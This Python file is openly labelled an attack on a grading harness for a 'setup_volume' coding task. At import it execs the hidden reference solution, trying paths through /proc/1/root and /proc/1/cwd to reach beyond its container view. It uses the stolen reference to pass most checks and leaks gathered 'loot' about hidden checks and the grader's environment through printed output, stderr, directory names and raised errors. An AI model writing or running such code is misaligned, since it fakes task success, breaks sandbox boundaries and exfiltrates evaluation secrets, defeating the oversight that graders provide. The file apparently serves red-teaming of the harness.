"""Attack: read the reference, the hidden checks and the grader's environment, and print them
into the feedback. At import it tries to load the reference solution (by the kit's path, through
/proc/1/root and /proc/1/cwd, and relative to the working directory it started in); the checks of
awkward names get everything it read, printed and raised; the others get the reference's work."""

import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import attack_kit  # noqa: E402

KIT = attack_kit.TARGETS.get("kit", "")
REFERENCE = None
for path in (os.path.join(KIT, "solutions", "01", "setup_volume.py"),
             "/proc/1/root" + os.path.join(KIT, "solutions", "01", "setup_volume.py"),
             "/proc/1/cwd/solutions/01/setup_volume.py", "solutions/01/setup_volume.py"):
    try:
        scope: dict = {}
        with open(path) as f:
            exec(compile(f.read(), path, "exec"), scope)
        REFERENCE = scope["setup_volume"]
        break
    except Exception:  # noqa: BLE001, S110
        pass
LOOT = attack_kit.loot()
print(LOOT)


def setup_volume(volume_path, container_path):
    if REFERENCE is not None and "awkward" not in volume_path:
        return REFERENCE(volume_path, container_path)
    print(LOOT)
    sys.stderr.write(LOOT)
    os.makedirs(os.path.join(volume_path, LOOT[:200].replace("/", "_")), exist_ok=True)
    raise ValueError(LOOT)
